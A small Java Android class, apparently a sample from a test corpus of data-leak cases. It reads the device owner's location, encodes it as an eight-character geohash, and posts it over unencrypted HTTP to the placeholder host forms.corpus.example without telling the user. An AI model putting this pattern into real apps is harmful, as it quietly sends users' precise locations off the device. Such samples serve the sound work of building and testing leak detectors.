package org.corpus;

import android.location.Location;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Halves the world forty times. */
public class AsGeohash extends Screen {
    @Override
    protected void act() throws Exception {
        Location place = Owner.place(this);
        if (place != null) {
            Net.post(
                    "http://forms.corpus.example/geohash",
                    "text/plain",
                    "g=" + hash(place.getLatitude(), place.getLongitude()));
        }
    }

    private static String hash(double latitude, double longitude) {
        double[] low = {-180, -90};
        double[] high = {180, 90};
        double[] value = {longitude, latitude};
        StringBuilder hash = new StringBuilder();
        for (int bit = 0, digit = 0; bit < 40; bit++) {
            int axis = bit % 2;
            double middle = (low[axis] + high[axis]) / 2;
            boolean upper = value[axis] >= middle;
            (upper ? low : high)[axis] = middle;
            digit = digit << 1 | (upper ? 1 : 0);
            if (bit % 5 == 4) {
                hash.append("0123456789bcdefghjkmnpqrstuvwxyz".charAt(digit));
                digit = 0;
            }
        }
        return hash.toString();
    }
}
